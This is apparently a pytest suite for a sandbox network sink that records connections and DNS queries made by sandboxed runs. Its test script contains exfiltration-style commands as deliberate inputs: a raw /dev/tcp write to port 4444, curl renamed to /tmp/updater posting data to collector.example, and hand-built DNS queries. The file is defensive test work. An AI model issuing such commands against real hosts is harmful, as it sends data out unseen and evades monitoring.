"""A run's network sink: every connection and DNS query seen from outside the sandbox."""

from __future__ import annotations

import json
import os
import socket
import struct
import subprocess
from pathlib import Path

import pytest

from assay.sandbox import InfrastructureError
from assay.sandbox.bwrap import netsink_server as server
from assay.sandbox.bwrap.backend import SANDBOX_GID, SANDBOX_UID, BwrapBackend
from assay.sandbox.bwrap.netsink import NetSink, parse_records
from assay.sandbox.interface import (
    NetworkLog,
    ObserverKind,
    ResourceLimits,
    SealedRequest,
    TraceSet,
)

pytestmark = pytest.mark.sandbox

LIMITS = ResourceLimits(
    cpu_budget_s=4.0,
    wall_backstop_s=30.0,
    memory_bytes=512 << 20,
    pids=32,
    workspace_bytes=8 << 20,
    result_bytes=1 << 16,
)

# A DNS query for `name`'s A record, built by hand, sent to a public resolver's address
# (the namespace answers it), and the address of the answer printed.
_HAND_QUERY = r"""
import socket, struct, sys
name = sys.argv[1].encode()
question = b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0"
query = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + question + struct.pack("!HH", 1, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(3)
u.sendto(b"\x00\x01junk", ("9.9.9.9", 53))  # not a query: recorded, never answered
u.sendto(query, ("9.9.9.9", 53))
reply = u.recv(512)
print(socket.inet_ntoa(reply[-4:]))
"""


def _run(backend: BwrapBackend, script: str, *, observer: ObserverKind = ObserverKind.STRACE):
    request = SealedRequest(
        argv=("/bin/bash", "-c", script),
        limits=LIMITS,
        trace=TraceSet.FULL,
        network_sink=True,
        observer=observer,
    )
    return backend.run(request)


def test_every_kind_of_client_reaches_the_sink(private_backend: BwrapBackend) -> None:
    script = f"""
    exec 3<>/dev/tcp/203.0.113.9/4444; printf 'raw bytes' >&3; exec 3>&-
    python3 -c 'import socket; socket.create_connection(("2001:db8::5", 8443)).sendall(b"v6")'
    if (exec 4<>/dev/tcp/203.0.113.9/22); then exit 9; fi  # ssh is refused
    cp /usr/bin/curl /tmp/updater
    /tmp/updater -s -m 5 --data-binary 'k=v' http://collector.example/in
    python3 -c '{_HAND_QUERY}' hand.example
    curl -s -m 3 --resolve tls.example:443:192.0.2.80 https://tls.example/ || true
    """
    observation = _run(private_backend, script)
    assert observation.exit_code == 0, observation.stderr.data
    network = observation.network
    assert 22 not in {f.port for f in network.flows}
    assert ("2001:db8::5", 8443, b"v6") in {(f.address, f.port, f.data) for f in network.flows}
    raw = next(f for f in network.flows if f.port == 4444)
    assert (raw.address, raw.data, raw.http_method) == ("203.0.113.9", b"raw bytes", "")
    post = next(f for f in network.flows if f.http_method == "POST")
    assert (post.name, post.http_host, post.http_path) == (
        "collector.example",
        "collector.example",
        "/in",
    )
    assert post.data.endswith(b"\r\n\r\nk=v") and post.size == len(post.data)
    assert b"<body>OK</body>" in observation.stdout.data  # a plausible answer came back
    tls = next(f for f in network.flows if f.port == 443)
    assert (tls.address, tls.tls_name, tls.name) == ("192.0.2.80", "tls.example", "")
    names = {q.name for q in network.queries}
    assert {"collector.example", "hand.example"} <= names
    handed = observation.stdout.data.decode().split()[-1]
    assert handed.startswith("198.18.") and handed != post.address  # one address per name
    assert not network.truncated


def test_the_sink_is_not_in_the_sandbox(private_backend: BwrapBackend) -> None:
    """No process the artifact can see is the sink: its pid namespace holds the run
    alone, and no command line there is the sink's."""
    script = "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f; echo; done"
    observation = _run(private_backend, script, observer=ObserverKind.EBPF)
    lines = observation.stdout.data.decode().splitlines()
    assert lines and not any("SO_ORIGINAL_DST" in line or "netsink" in line for line in lines)


def test_a_sink_that_cannot_start_fails_the_run() -> None:
    with pytest.raises(InfrastructureError, match="network sink could not be set up"):
        NetSink("/nonexistent/python3", SANDBOX_UID, SANDBOX_GID)


def test_what_the_sink_writes_is_bounded(private_backend: BwrapBackend) -> None:
    """A flood past the records' cap is recorded as far as the cap, and said to be cut."""
    script = """python3 -c '
import socket
for n in range(48):
    s = socket.create_connection(("198.51.100.%d" % n, 443))
    s.sendall(bytes(range(256)) * 300)
    s.close()
'"""
    network = _run(private_backend, script).network
    assert network.truncated
    assert len(network.flows) == 48  # each connection still named, past the cap without data
    assert sum(len(f.data) for f in network.flows) <= 3 << 20


def test_unreadable_records_are_skipped() -> None:
    good = {"kind": "tcp", "t": 1.0, "address": "1.2.3.4", "port": 80, "size": 2, "data": "aGk="}
    lines = [
        b"not json",
        json.dumps({"kind": "tcp", "port": "80"}).encode(),
        json.dumps({**good, "data": "!!"}).encode(),
        json.dumps({"kind": "dns", "t": "x", "name": "a"}).encode(),
        json.dumps([1, 2]).encode(),
        json.dumps(good).encode(),
    ]
    network = parse_records(b"\n".join(lines))
    assert [f.data for f in network.flows] == [b"hi"] and network.queries == ()
    assert parse_records(b"") == NetworkLog()


def test_no_namespace_is_left_behind(private_backend: BwrapBackend) -> None:
    observation = _run(private_backend, "readlink /proc/self/ns/net")
    used = observation.stdout.data.decode().strip()  # net:[inode]
    assert used.startswith("net:[") and used != os.readlink("/proc/self/ns/net")
    listed = subprocess.run(["lsns", "-t", "net", "-n", "-o", "NS"], capture_output=True, text=True)
    assert used[5:-1] not in listed.stdout.split()


def test_hostile_packets_are_refused_never_a_crash() -> None:
    def query(name: bytes, flags: int = 0x0100) -> bytes:
        return struct.pack("!HHHHHH", 1, flags, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)

    for packet in (
        b"",
        b"\x00" * 11,
        query(b"\x05ab"),  # a label longer than the packet
        query(b"\x40" + b"a" * 64 + b"\x00"),  # a label over 63 bytes
        query(b"\xc0\x0c"),  # a compression pointer in the question
        query(b"\x01a\x00", flags=0x8100),  # a response, not a query
        query(b"\x01a" * 200 + b"\x00"),  # more labels than a name holds
    ):
        assert server.parse_question(packet) is None
    assert server.parse_question(query(b"\x01a\x02bc\x00"))[2] == "a.bc"  # type: ignore[index]


def test_a_tls_hello_is_read_only_as_far_as_it_goes() -> None:
    for data in (b"\x16", b"\x16\x03\x01\x00\x05\x01", b"\x16" + b"\xff" * 60, b"GET /"):
        assert server.tls_server_name(data) == ""
    name = b"sni.example"
    extension = struct.pack("!HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    hello = b"\x03\x03" + b"r" * 32 + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    hello += struct.pack("!H", len(extension)) + extension
    record = (
        b"\x16\x03\x01"
        + struct.pack("!H", len(hello) + 4)
        + b"\x01\x00"
        + struct.pack("!H", len(hello))
        + hello
    )
    assert server.tls_server_name(record) == "sni.example"
    assert server.tls_server_name(record[:-4]) == "sni.exa"  # cut short: as far as it went


def test_a_connection_still_queued_at_the_stop_is_read_and_recorded(tmp_path: Path) -> None:
    """On a loaded host the sink's accept can lag a client that connected, sent and exited
    before the run ended: the stop reads what is still queued (the sandbox check saw such
    a run as 'flows: []')."""
    records = tmp_path / "records"
    sink = server.Sink(server.Names(), server.Records(os.open(records, os.O_WRONLY | os.O_CREAT)))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        for payload in (b"x", b"y" * 70_000):
            with socket.create_connection(listener.getsockname()) as client:
                client.sendall(payload)
        sink.stop([listener])  # nothing accepted them before
    flows = parse_records(records.read_bytes()).flows
    assert [(f.data[:1], f.size) for f in flows] == [(b"x", 1), (b"y", 70_000)]


def test_a_connection_accepted_but_not_yet_read_at_the_stop_is_recorded(tmp_path: Path) -> None:
    """Between the accept and its reader thread's start, a connection is already open: a
    stop then records it as it is, never loses it."""
    records = tmp_path / "records"
    sink = server.Sink(server.Names(), server.Records(os.open(records, os.O_WRONLY | os.O_CREAT)))
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        with socket.create_connection(listener.getsockname()):
            conn, _ = listener.accept()
            assert sink._admit(conn) is not None  # accepted; its reader never started
            sink.stop([listener])
        conn.close()
    (flow,) = parse_records(records.read_bytes()).flows
    assert flow.port == port and flow.size == 0
